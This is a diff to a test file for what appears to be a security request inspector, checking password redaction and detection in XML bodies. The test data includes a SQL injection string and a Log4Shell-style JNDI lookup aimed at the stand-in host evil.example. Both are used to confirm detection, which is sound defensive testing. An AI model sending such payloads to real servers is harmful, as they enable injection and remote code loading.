@@ -179,6 +179,14 @@ describe('password fields', () => {
     assert.ok(!leaks(inspector.inspect(post('/soap', 'text/xml', deepPw)), 'Secret9'));
     const plain = `<?xml version="1.0"?><Envelope><Body><Login><User>a</User><Password>Xy' OR 1=1--Secret9</Password></Login></Body></Envelope>`;
     assert.ok(!leaks(inspector.inspect(post('/soap', 'text/plain', plain)), 'Secret9'));
+    // A short password redacts no other value that merely contains its text (a twelfth review: '<pass>a</pass>'
+    // hid every payload), and many passwords cost nothing quadratic.
+    const decoy = inspector.inspect(post('/soap', 'text/xml', '<x><pass>a</pass><q>${jndi:ldap://evil.example/a}</q></x>'));
+    assert.ok(decoy.some((f) => f.location === 'body.x.q' && f.fragment?.includes('jndi') === true), JSON.stringify(decoy));
+    const passwords = `<r>${'<password>ab</password>'.repeat(700)}${'<a>x'.repeat(60)}${'a'.repeat(60_000)}${'</a>'.repeat(60)}</r>`;
+    const t0 = process.hrtime.bigint();
+    inspector.inspect(post('/soap', 'text/xml', passwords));
+    assert.ok(Number(process.hrtime.bigint() - t0) / 1e6 < 2000);
     // Nor through a mixed-content parent that holds it.
     assert.ok(!leaks(inspector.inspect(post('/soap', 'text/xml', '<Login>user jane<Password>$(HPcF$ajjhm1B)</Password></Login>')), 'HPcF'));
     // A data: URL in an XML password is not decoded into a copy that could be recorded.
